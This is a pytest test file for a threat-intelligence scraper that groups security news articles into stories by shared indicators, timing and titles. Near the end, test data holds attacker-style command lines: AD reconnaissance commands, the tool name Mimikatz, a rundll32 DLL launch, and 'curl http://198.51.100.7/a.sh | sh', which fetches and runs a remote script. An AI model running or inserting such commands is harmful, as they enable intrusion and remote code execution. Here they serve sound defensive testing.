"""Which articles tell of one event: what joins them, what does not, and how it is told."""

from collections.abc import Sequence
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from functools import partial
from zlib import crc32

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ctiscraper.enrich.evidence import is_anchor, worth
from ctiscraper.enrich.stories import JOIN, Stories
from ctiscraper.story_facts import (
    ArticleFacts,
    Candidate,
    EntityFacts,
    Neighbourhood,
    Placement,
    StoryFacts,
)
from ctiscraper.types import Fingerprint
from planted import alike

START = datetime(2026, 11, 2, tzinfo=UTC)
JUDGE = Stories(alike)
CORPUS = 20_000


def entity(words: str, articles: int = 2, sources: int = 2, **changes: object) -> EntityFacts:
    kind, _, value = words.partition(" ")
    found = EntityFacts(
        id=crc32(words.encode()), kind=kind, value=value, articles=articles, sources=sources
    )
    return replace(found, **changes)  # type: ignore[arg-type]  # a builder


def article(
    number: int, *entities: EntityFacts, days: float = 0, **changes: object
) -> ArticleFacts:
    made = ArticleFacts(
        id=number,
        source_id=number,
        at=START + timedelta(days=days),
        root_id=number,
        title=f"Untold {number}",
        entities=entities,
        language="en",
    )
    return replace(made, **changes)  # type: ignore[arg-type]  # a builder


def placed(
    one: ArticleFacts, *others: ArticleFacts | Candidate, corpus: int = CORPUS, **changes: object
) -> Placement:
    mine = {each.id for each in one.entities}
    candidates = tuple(
        other
        if isinstance(other, Candidate)
        else Candidate(article=other, shared=frozenset(mine & {each.id for each in other.entities}))
        for other in others
    )
    asked = Neighbourhood(article=one, candidates=candidates, corpus=corpus)
    return JUDGE.place(replace(asked, **changes))  # type: ignore[arg-type]  # a builder


HASH = entity("sha256 aa")
DOMAIN = entity("domain evil.example")
ADDRESS = entity("ipv4 192.0.2.1")
CVE = entity("cve CVE-2026-1234", articles=4)
ACTOR = entity("actor apt29", articles=300, sources=40)
MALWARE = entity("malware quietcat", articles=4, sources=3)
VENDOR = entity("vendor acme", articles=900, sources=50)
USUAL = (
    entity("malware emotet", articles=2_000, sources=90),
    entity("tool cobalt strike", articles=4_000, sources=90),
    entity("cve CVE-2021-44228", articles=1_500, sources=90),
    entity("technique T1059.001", articles=5_000, sources=90),
    entity("country russia", articles=5_000, sources=90),
)

ONE_EVENT: dict[str, tuple[Sequence[EntityFacts], float, str, str]] = {
    "a rare hash": ([HASH], 2, "", ""),
    "a rare hash weeks later": ([HASH], 15, "", ""),
    "a domain and an address": ([DOMAIN, ADDRESS], 3, "", ""),
    "a vulnerability and its vendor": ([CVE, VENDOR], 1, "", ""),
    "a vulnerability and who uses it": ([CVE, ACTOR], 2, "", ""),
    "a rare name and the title": (
        [MALWARE],
        1,
        "QuietCat lurks in printers of museums",
        "Museums: QuietCat lurks in their printers",
    ),
}
OTHER_EVENTS: dict[str, tuple[Sequence[EntityFacts], float, str, str]] = {
    "nothing": ([], 0, "", ""),
    "what everybody names": (USUAL, 0, "", ""),
    "a rare name alone": ([MALWARE], 1, "", ""),
    "a vulnerability alone": ([CVE], 1, "", ""),
    "a vulnerability and its vendor a year later": ([CVE, VENDOR, ACTOR], 365, "", ""),
    "an actor and a title of usual words": (
        [ACTOR],
        0,
        "New malware campaign targets users",
        "New malware campaign targets users",
    ),
    "the same title and nothing else": (
        [],
        0,
        "Museum printers leak visitors' names",
        "Museum printers leak visitors' names",
    ),
    "a hash half a year later": ([HASH], 180, "", ""),
}


@pytest.mark.parametrize("name", ONE_EVENT)
def test_one_event(name: str) -> None:
    shared, days, title, other = ONE_EVENT[name]
    found = placed(article(2, *shared, days=days, title=title), article(1, *shared, title=other))
    assert found.lone == (1,), found
    assert found.near == 1
    assert found.score >= JOIN
    assert found.reasons


@pytest.mark.parametrize("name", OTHER_EVENTS)
def test_other_events(name: str) -> None:
    shared, days, title, other = OTHER_EVENTS[name]
    found = placed(article(2, *shared, days=days, title=title), article(1, *shared, title=other))
    assert (found.stories, found.lone) == ((), ()), found


def test_a_translation_is_of_the_same_story() -> None:
    one = article(1, HASH, CVE, title="QuietCat lurks in printers")
    other = article(2, HASH, CVE, title="QuietCat lauert in Druckern", language="de", days=1)
    assert placed(other, one).lone == (1,)


def test_reasons_add_up_and_name_what_they_rest_on() -> None:
    shared = (HASH, CVE, ACTOR)
    found = placed(article(2, *shared, days=3), article(1, *shared))
    assert sum(one.weight for one in found.reasons) == pytest.approx(found.score)
    assert {one.name for one in found.reasons} == {"shares", "also_shares", "both", "days_apart"}
    assert found.reasons[0].detail == "sha256 aa"
    assert found.reasons[-1].detail == "3.0"


@given(days=st.floats(0, 400), longer=st.floats(0, 400))
def test_more_days_apart_never_weigh_more(days: float, longer: float) -> None:
    one = article(1, HASH, MALWARE, title="QuietCat lurks in museums")

    def score(apart: float) -> float:
        return placed(replace(one, id=2, at=one.at + timedelta(days=apart)), one).score

    assert score(days + longer) <= score(days) + 1e-9


@given(articles=st.integers(2, 20_000), more=st.integers(0, 20_000))
def test_what_more_articles_name_never_weighs_more(articles: int, more: int) -> None:
    def score(count: int) -> float:
        shared = entity("domain some.example", articles=count)
        return placed(article(2, shared, HASH), article(1, shared, HASH)).score

    assert score(articles + more) <= score(articles) + 1e-9


def test_a_vulnerability_of_the_week_joins_however_many_tell_of_it() -> None:
    fresh = replace(CVE, articles=900, first_seen=START - timedelta(days=2))
    stale = replace(CVE, articles=900, first_seen=START - timedelta(days=900))
    for one, lone in ((fresh, (1,)), (stale, ())):
        found = placed(article(2, one, VENDOR, ACTOR), article(1, one, VENDOR, ACTOR))
        assert found.lone == lone


def test_values_of_a_source_itself_do_not_join_its_articles() -> None:
    habits = [
        entity(f"{kind} {value}", articles=30, sources=1)
        for kind, value in (
            ("domain", "support.acme.example"),
            ("email", "psirt@acme.example"),
            ("url", "https://acme.example/policy"),
        )
    ]
    one, other = article(1, *habits, source_id=7), article(2, *habits, source_id=7)
    assert placed(other, one).lone == ()


def test_a_url_and_its_domain_are_one_thing() -> None:
    url = entity("url https://evil.example/a", host="example.evil")
    domain = replace(DOMAIN, host="example.evil")
    both = placed(article(2, url, domain), article(1, url, domain)).reasons
    assert [one.name for one in both if one.name == "shares"] == ["shares"]


def _mark(bands: tuple[int, ...]) -> Fingerprint:
    return Fingerprint(
        version=1, text_sha256=bytes([bands[0]]), signature=b"", bands=bands, shingles=100
    )


def test_advisories_from_one_template_are_apart() -> None:
    """Their texts are much alike, and each is on a product of its own."""
    judge = Stories(lambda _one, _other: (0.7, False))
    one, other = article(1, VENDOR, mark=_mark((1,))), article(2, VENDOR, mark=_mark((2,)))
    candidate = Candidate(article=one, shared=frozenset({VENDOR.id}))
    found = judge.place(Neighbourhood(article=other, candidates=(candidate,), corpus=CORPUS))
    assert found == Placement()


def test_a_near_duplicate_joins_whatever_else() -> None:
    judge = Stories(lambda _one, _other: (0.9, True))
    one, other = article(1, mark=_mark((1,))), article(2, mark=_mark((2,)), days=300)
    candidate = Candidate(article=one, shared=frozenset())
    found = judge.place(Neighbourhood(article=other, candidates=(candidate,), corpus=CORPUS))
    assert found.lone == (1,)
    assert found.reasons[0].name == "near_duplicate"


def _story(number: int, articles: int, days: float = 0) -> StoryFacts:
    at = START + timedelta(days=days)
    return StoryFacts(id=number, articles=articles, first_at=at, last_at=at)


def _member(one: ArticleFacts, story: int, *shared: EntityFacts, breadth: int = 1) -> Candidate:
    return Candidate(
        article=one,
        shared=frozenset(each.id for each in shared),
        story_id=story,
        breadth=breadth,
    )


def test_a_story_is_not_joined_by_its_edge() -> None:
    edge = _member(article(1, HASH), 5, HASH)
    found = placed(article(9, HASH), edge, stories={5: _story(5, articles=12)})
    assert found.stories == ()
    members = [_member(article(n, HASH), 5, HASH) for n in range(1, 5)]
    found = placed(article(9, HASH), *members, stories={5: _story(5, articles=12)})
    assert found.stories == (5,)


def test_an_article_that_tells_of_much_does_not_carry_another_in() -> None:
    hub = _member(article(1, HASH), 5, HASH, breadth=14)
    other = _member(article(2), 5)
    found = placed(article(9, HASH), hub, other, stories={5: _story(5, articles=2)})
    assert found.stories == ()
    narrow = replace(hub, breadth=3)
    assert placed(article(9, HASH), narrow, other, stories={5: _story(5, articles=2)}).stories


def test_a_story_does_not_go_on_for_ever() -> None:
    members = [_member(article(n, HASH), 5, HASH) for n in range(1, 4)]
    long = replace(_story(5, 3), first_at=START - timedelta(days=119))
    assert placed(article(9, HASH), *members, stories={5: long}).stories == (5,)
    late = article(9, HASH, days=10)
    assert placed(late, *members, stories={5: long}).stories == ()
    full = _story(5, articles=400)
    assert placed(article(9, HASH), *members, stories={5: full}).stories == ()


def test_who_is_in_a_story_stays_with_less() -> None:
    members = [_member(article(1, CVE), 5, CVE)]
    stories = {5: _story(5, articles=2)}
    one = article(9, CVE, days=1)
    assert placed(one, *members, stories=stories).stories == ()
    assert placed(one, *members, stories=stories, present=5).stories == (5,)


def test_two_events_become_one_through_an_article_of_both() -> None:
    first = _member(article(1, HASH), 5, HASH)
    second = _member(article(2, DOMAIN, ADDRESS), 4, DOMAIN, ADDRESS)
    stories = {5: _story(5, articles=1), 4: _story(4, articles=1)}
    found = placed(article(9, HASH, DOMAIN, ADDRESS), first, second, stories=stories)
    assert found.stories == (4, 5)


def test_what_touches_many_events_belongs_to_none() -> None:
    hashes = [entity(f"sha256 {n:02x}") for n in range(4)]
    members = [_member(article(n, one), n + 10, one) for n, one in enumerate(hashes)]
    stories = {n + 10: _story(n + 10, articles=1) for n in range(4)}
    found = placed(article(9, *hashes), *members, stories=stories)
    assert (found.stories, found.lone, found.roundup) == ((), (), True)
    assert sorted(found.also) == [10, 11, 12, 13]


def test_a_list_of_many_vulnerabilities_carries_nothing() -> None:
    cves = [entity(f"cve CVE-2026-{n}", articles=3) for n in range(40)]
    lists = article(1, *cves)
    found = placed(lists)
    assert found.roundup
    judged = Candidate(
        article=lists, shared=frozenset({cves[0].id, VENDOR.id}), roundup=True, breadth=40
    )
    assert placed(article(2, cves[0], VENDOR), judged).lone == ()


def test_two_lists_of_the_same_vulnerabilities_are_one_story() -> None:
    cves = [entity(f"cve CVE-2026-{n}", articles=5) for n in range(40)]
    judged = Candidate(
        article=article(1, *cves),
        shared=frozenset(one.id for one in cves[:30]),
        roundup=True,
        breadth=40,
    )
    assert placed(article(2, *cves[:30], days=1), judged).lone == (1,)
    assert placed(article(2, *cves[:30], days=30), judged).lone == ()


def test_a_digest_by_its_title_has_to_be_sure() -> None:
    one = article(1, CVE, VENDOR)
    digest = article(2, CVE, VENDOR, title="This week in security: printers and more")
    assert placed(digest, one).lone == ()
    assert placed(one, digest).lone == ()
    sure = (CVE, VENDOR, HASH, DOMAIN)
    assert placed(replace(digest, entities=sure), article(1, *sure)).lone == (1,)


def test_events_with_something_in_common_are_one_thread() -> None:
    """Three fragments of one event, each with the same domain, are joined and make no digest."""
    hashes = [entity(f"sha256 {n:02x}") for n in range(3)]
    members = [
        _member(article(n, one, DOMAIN), n + 10, one, DOMAIN) for n, one in enumerate(hashes)
    ]
    stories = {n + 10: _story(n + 10, articles=1) for n in range(3)}
    found = placed(article(9, *hashes, DOMAIN), *members, stories=stories)
    assert (found.stories, found.roundup) == ((10, 11, 12), False)


def test_a_wide_article_has_to_be_sure_and_joins_no_two() -> None:
    subjects = [entity(f"malware family-{n}", articles=3_000) for n in range(11)]
    one, other = (_member(article(n, HASH), n + 3, HASH) for n in (1, 2))
    stories = {4: _story(4, articles=1), 5: _story(5, articles=1)}
    assert placed(article(9, HASH, *subjects), one, stories=stories).stories == ()
    both = (HASH, DOMAIN)
    sure = [replace(each, shared=frozenset({HASH.id, DOMAIN.id})) for each in (one, other)]
    assert placed(article(9, *both, *subjects), *sure, stories=stories).stories == (4,)
    assert placed(article(9, *both), *sure, stories=stories).stories == (4, 5)


def test_an_article_whose_rare_things_lie_elsewhere_is_of_no_event() -> None:
    """One hash of ten is another's: what else it names is told of in many articles."""
    elsewhere = [entity(f"domain d{n}.example", verdict="mentioned") for n in range(9)]
    others = [article(n + 20, one) for n, one in enumerate(elsewhere)]
    found = placed(article(9, HASH, *elsewhere), article(1, HASH), *others)
    assert (found.lone, found.roundup) == ((), True)


def test_a_template_with_another_vulnerability_is_no_copy() -> None:
    judge = Stories(lambda _one, _other: (0.8, True))
    one, other = article(1, mark=_mark((1,))), article(2, CVE, mark=_mark((2,)))
    candidate = Candidate(article=one, shared=frozenset(), breadth=1)
    asked = Neighbourhood(article=other, candidates=(candidate,), corpus=CORPUS)
    assert judge.place(asked).lone == ()
    named = replace(candidate, shared=frozenset({CVE.id}))
    assert judge.place(replace(asked, candidates=(named,))).lone == (1,)


def _near(share: float, _one: Fingerprint, _other: Fingerprint) -> tuple[float, bool]:
    return share, True


def test_a_text_that_is_a_part_of_a_digest_is_no_copy_of_it() -> None:
    for share, lone in ((0.2, ()), (0.7, (1,))):
        judge = Stories(partial(_near, share))
        digest = article(1, mark=_mark((1,)), title="Weekly security newsletter")
        candidate = Candidate(article=digest, shared=frozenset())
        asked = Neighbourhood(
            article=article(2, mark=_mark((2,))), candidates=(candidate,), corpus=CORPUS
        )
        assert judge.place(asked).lone == lone


def test_a_host_in_a_link_counts_half_unless_one_holds_it_malicious() -> None:
    link = replace(DOMAIN, verdict="mentioned")
    name = entity("actor turla", articles=300, sources=40)
    one, other = article(1, link, name), article(2, link, name)
    assert placed(other, one).lone == ()
    bad = Candidate(article=one, shared=frozenset({link.id, name.id}), flagged=frozenset({link.id}))
    assert placed(other, bad).lone == (1,)
    assert placed(article(2, replace(DOMAIN, verdict="benign"), name), one).lone == ()


def test_a_host_that_was_named_a_month_before_marks_no_event() -> None:
    old = replace(DOMAIN, articles=6, first_seen=START - timedelta(days=60))
    both = (old, entity("actor turla", articles=300, sources=40))
    assert placed(article(2, *both), article(1, *both)).lone == ()


def test_a_campaign_of_months_is_told_in_waves() -> None:
    """The same hashes, a hundred days on: another story, however much is shared."""
    shared = [entity(f"sha256 {n:04x}") for n in range(20)]
    far = _story(5, articles=2)
    members = [_member(article(n, *shared), 5, *shared) for n in (1, 2)]
    found = placed(article(9, *shared, days=100), *members, stories={5: far})
    assert found.stories == ()


def test_what_was_parted_by_hand_stays_apart() -> None:
    one, other = article(1, HASH), article(2, HASH)
    assert placed(other, one, apart_articles=frozenset({1})).lone == ()
    member = _member(one, 5, HASH)
    stories = {5: _story(5, articles=1)}
    assert placed(other, member, stories=stories).stories == (5,)
    parted = placed(other, member, stories=stories, apart_stories=frozenset({5}))
    assert parted.stories == ()


def test_articles_are_looked_for_by_what_is_rare() -> None:
    seeds = JUDGE.seeds(article(1, HASH, CVE, ACTOR, *USUAL))
    assert set(seeds.rare) == {HASH.id, CVE.id}
    assert ACTOR.id in seeds.common
    many = [entity(f"sha256 {n:04x}") for n in range(3_000)]
    assert len(JUDGE.seeds(article(1, *many)).rare) == 60


def test_no_neighbour_no_story() -> None:
    assert placed(article(1, HASH)) == Placement(breadth=0)


ADMINISTRATION = tuple(
    entity(f"command_line {one}")
    for one in (
        "nltest /domain_trusts /all_trusts",
        'net group "domain admins" /domain',
        "whoami /all",
        'adfind.exe -f "(objectcategory=person)" > ad_users.txt',
        r"C:\Windows\System32\cmd.exe /c ipconfig /all",
        "Get-ADComputer -Filter *",
    )
)
TOOLS = tuple(entity(f"tool {one}") for one in ("Mimikatz", "PsExec", "AdFind"))


def test_what_administrators_type_anchors_no_story() -> None:
    one, other = (article(number, *ADMINISTRATION, *TOOLS) for number in (1, 2))
    assert placed(one, other).near is None
    assert not JUDGE.seeds(one).rare


def test_a_command_with_something_of_one_intrusion_is_evidence() -> None:
    found = [
        entity(f"command_line {one}")
        for one in (
            "rundll32 C:\\ProgramData\\qx7.dll,Start",
            "curl http://198.51.100.7/a.sh | sh",
            "qx7.exe --install",
        )
    ]
    assert placed(article(1, *found, HASH), article(2, *found, HASH)).near == 2
    assert set(JUDGE.seeds(article(1, *found)).rare) == {one.id for one in found}


def test_a_name_of_many_sources_over_months_is_in_general_use() -> None:
    long_ago = START - timedelta(days=90)
    general = entity("malware Beacon", articles=8, sources=7, first_seen=long_ago)
    special = entity("malware Special", articles=8, sources=2, first_seen=long_ago)
    new = entity("malware Fresh", articles=8, sources=7, first_seen=START)
    assert not is_anchor(general, START, CORPUS)
    assert is_anchor(special, START, CORPUS)
    assert is_anchor(new, START, CORPUS)
    assert worth(general, START, CORPUS) < worth(special, START, CORPUS)
